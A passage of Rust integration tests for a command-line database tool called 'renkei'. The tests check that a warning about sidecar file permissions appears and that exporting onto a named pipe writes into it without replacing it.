    let out = common::renkei(&db).arg("check").output().unwrap();
    let report = String::from_utf8_lossy(&out.stdout);
    let warning = report
        .lines()
        .find(|l| l.starts_with("警告") && l.contains("renkei.db-shm"))
        .unwrap_or_else(|| panic!("{report}"));
    assert!(warning.contains("chmod 600"), "{warning}");
    // Opening the database mends its own sidecar.
    drop(db.open());
    assert_eq!(mode(&shm), 0o600);
    drop(store);
}

/// `-o` onto a device or a pipe (`/dev/null`, `/dev/stdout`, a FIFO a reader waits on) writes
/// into it and leaves it what it was: the output was written beside it and renamed over it, which
/// put a private regular file where the machine's /dev/null was (seen on the shared build machine,
/// as root). A FIFO stands for the device here: replacing it is as visible, and harmless.
#[test]
fn an_output_onto_a_pipe_is_written_into_never_put_in_its_place() {
    use std::os::unix::fs::FileTypeExt;
    let db = common::demo_copy();
    let fifo = db.dir.path().join("pipe.json");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRWXU).unwrap();
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read(&fifo).unwrap())
    };
    let out = renkei(&db)
        .args(["export", "-o", fifo.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Before the reader is waited for: a pipe put aside leaves it waiting for ever.
    assert!(
        std::fs::metadata(&fifo).unwrap().file_type().is_fifo(),
        "the pipe was replaced by a file"
    );
    let read = reader.join().unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&read).unwrap();
    assert_eq!(doc["format"], "renkei/1");
    let strays: Vec<_> = std::fs::read_dir(db.dir.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp") || n.ends_with(".renkei-tmp") && n != ".renkei-tmp")
        .collect();
    assert!(strays.is_empty(), "{strays:?}");
}
